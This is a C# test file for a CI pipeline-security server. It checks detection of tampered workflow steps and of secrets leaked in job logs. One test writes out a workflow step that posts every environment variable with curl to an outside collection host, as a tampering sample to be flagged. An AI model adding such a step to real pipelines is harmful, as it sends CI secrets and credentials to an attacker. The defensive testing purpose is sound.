using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using PipeWatch.Tests.Sources.JobLogs;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Server;

/// <summary>What the server fetches as things change: a followed repository on a push (a bare repository on disk as its remote), a job's log when the job completes (a loopback stand-in for the GitHub API).</summary>
public sealed class FollowUpsTests
{
    [Fact]
    public async Task A_push_adding_a_step_that_posts_env_yields_pipeline_tampering_for_that_commit_and_a_harmless_push_nothing_new()
    {
        using var repository = new TestRepository();
        using var remote = new TempFolder();
        var bare = Path.Combine(remote.Path, "app.git");
        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
        var first = repository.Commit("ci");
        repository.Git("clone", "--quiet", "--bare", repository.Path, bare);
        repository.Git("remote", "add", "origin", bare);
        await using var server = await RunningServer.StartAsync($"serve:\n  repositories:\n    - name: acme/app\n      url: '{bare}'\n");

        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow + """
                  - name: Upload diagnostics
                    run: curl -s -d "$(env)" https://collect.example.net/d

            """);
        var tampering = repository.Commit("ci: diagnostics");
        repository.Git("push", "--quiet", "origin", "main");
        await PushAsync(server, first, tampering);
        var findings = await server.AllFindingsAsync();

        Assert.Contains(findings, f => f.GetProperty("category").GetString() == "code-change.pipeline-tampering"
            && f.GetProperty("location").GetProperty("commit").GetString() == tampering);
        Assert.All(findings, f => Assert.Equal(tampering, f.GetProperty("location").GetProperty("commit").GetString()));

        repository.Write("README.md", "# app\n\nHow to build it.\n");
        var harmless = repository.Commit("docs: readme");
        repository.Git("push", "--quiet", "origin", "main");
        await PushAsync(server, tampering, harmless);

        Assert.Equal(findings.Count, (await server.AllFindingsAsync()).Count);
        Assert.True(Directory.Exists(Path.Combine(server.Folder.Path, "mirrors", "acme_app.git")));
        Assert.Empty(server.Problems.Problems);
    }

    [Fact]
    public async Task A_completed_workflow_job_fetches_its_log_from_the_api_and_the_double_base64_dump_in_it_is_found()
    {
        var log = await File.ReadAllBytesAsync(JobLogFixtures.GitHubLog, TestContext.Current.CancellationToken);
        using var api = new GitHubApiStandIn(log, "ghs_api_token_for_tests");
        await using var server = await RunningServer.StartAsync(
            $"serve:\n  github-api-url: '{api.Url}'\n", new Dictionary<string, string> { ["PIPEWATCH_GITHUB_TOKEN"] = "ghs_api_token_for_tests" });
        var job = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "workflow_job", "completed.failure.with-organization.payload.json")))!;
        var repository = job["repository"]!["full_name"]!.GetValue<string>();
        var jobId = job["workflow_job"]!["id"]!.GetValue<long>();
        var body = Encoding.UTF8.GetBytes(job.ToJsonString());

        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "workflow_job", signature: RunningServer.Sign(body))).StatusCode);
        await SettledAsync(server);

        Assert.Equal([$"/repos/{repository}/actions/jobs/{jobId}/logs", "/blob/log.txt"], api.Requests);
        var findings = await server.AllFindingsAsync();
        Assert.Equal(
            ["aws-access-key-id", "aws-secret-key-near-key-id", "github-app-installation-token", "npm-access-token"],
            findings.Select(f => f.GetProperty("evidence").EnumerateArray().Single(e => e.GetProperty("name").GetString() == "secret_rule").GetProperty("value").GetString()).Order(StringComparer.Ordinal));
        Assert.All(findings, f => Assert.Equal("secrets.exposed-in-log", f.GetProperty("rule").GetString()));
        Assert.DoesNotContain(JobLogFixtures.DumpedGitHubToken, JsonSerializer.Serialize(findings), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_completed_workflow_job_without_a_github_token_fetches_nothing()
    {
        using var api = new GitHubApiStandIn([], "unused");
        await using var server = await RunningServer.StartAsync($"serve:\n  github-api-url: '{api.Url}'\n");
        var body = await File.ReadAllBytesAsync(Corpus.File("github-webhooks", "workflow_job", "completed.failure.with-organization.payload.json"), TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "workflow_job", signature: RunningServer.Sign(body))).StatusCode);
        await SettledAsync(server);

        Assert.Empty(api.Requests);
        Assert.Empty(await server.AllFindingsAsync());
    }

    private static async Task PushAsync(RunningServer server, string before, string after)
    {
        var push = JsonNode.Parse(File.ReadAllText(Corpus.File("github-webhooks", "push", "payload.json")))!;
        push["ref"] = "refs/heads/main";
        push["before"] = before;
        push["after"] = after;
        push["forced"] = false;
        push["repository"]!["full_name"] = "acme/app";
        var body = Encoding.UTF8.GetBytes(push.ToJsonString());
        Assert.Equal(HttpStatusCode.Accepted, (await server.PostGitHubAsync(body, "push", signature: RunningServer.Sign(body))).StatusCode);
        await SettledAsync(server);
    }

    /// <summary>Waits until the queue is empty and no fetch, scan or download is under way, and the queue is empty again (a download queues a log).</summary>
    private static async Task SettledAsync(RunningServer server)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while (true)
        {
            await server.DrainedAsync();
            var health = await server.GetJsonAsync("/api/health", null);
            if (health.GetProperty("following").GetInt32() == 0 && health.GetProperty("backlog").GetInt64() == 0) return;
            Assert.True(DateTime.UtcNow < deadline, "the server did not settle");
            await Task.Delay(50, TestContext.Current.CancellationToken);
        }
    }
}

/// <summary>A loopback stand-in for the GitHub REST API's job-log download: checks the documented request, redirects to the log as GitHub does.</summary>
internal sealed class GitHubApiStandIn : IDisposable
{
    private readonly HttpListener _listener = new();
    private readonly byte[] _log;
    private readonly string _token;
    private readonly Task _serving;

    public GitHubApiStandIn(byte[] log, string token)
    {
        _log = log;
        _token = token;
        var port = FreePort();
        Url = $"http://127.0.0.1:{port}";
        _listener.Prefixes.Add(Url + "/");
        _listener.Start();
        _serving = Task.Run(ServeAsync);
    }

    public string Url { get; }

    public List<string> Requests { get; } = [];

    private async Task ServeAsync()
    {
        while (_listener.IsListening)
        {
            HttpListenerContext context;
            try
            {
                context = await _listener.GetContextAsync();
            }
            catch (Exception ex) when (ex is HttpListenerException or ObjectDisposedException)
            {
                return;
            }

            var path = context.Request.Url!.AbsolutePath;
            lock (Requests) Requests.Add(path);
            var response = context.Response;
            if (path == "/blob/log.txt")
            {
                response.ContentType = "text/plain";
                await response.OutputStream.WriteAsync(_log);
            }
            else if (path.EndsWith("/logs", StringComparison.Ordinal) && context.Request.HttpMethod == "GET"
                && context.Request.Headers["Authorization"] == $"Bearer {_token}"
                && context.Request.Headers["Accept"] == "application/vnd.github+json"
                && context.Request.Headers["X-GitHub-Api-Version"] == "2022-11-28")
            {
                // GitHub answers 302 with a short-lived download URL.
                response.StatusCode = 302;
                response.RedirectLocation = Url + "/blob/log.txt";
            }
            else
            {
                response.StatusCode = 404;
            }

            response.Close();
        }
    }

    private static int FreePort()
    {
        using var probe = new System.Net.Sockets.TcpListener(IPAddress.Loopback, 0);
        probe.Start();
        return ((IPEndPoint)probe.LocalEndpoint).Port;
    }

    public void Dispose()
    {
        _listener.Stop();
        _listener.Close();
        _serving.Wait(TimeSpan.FromSeconds(5));
    }
}
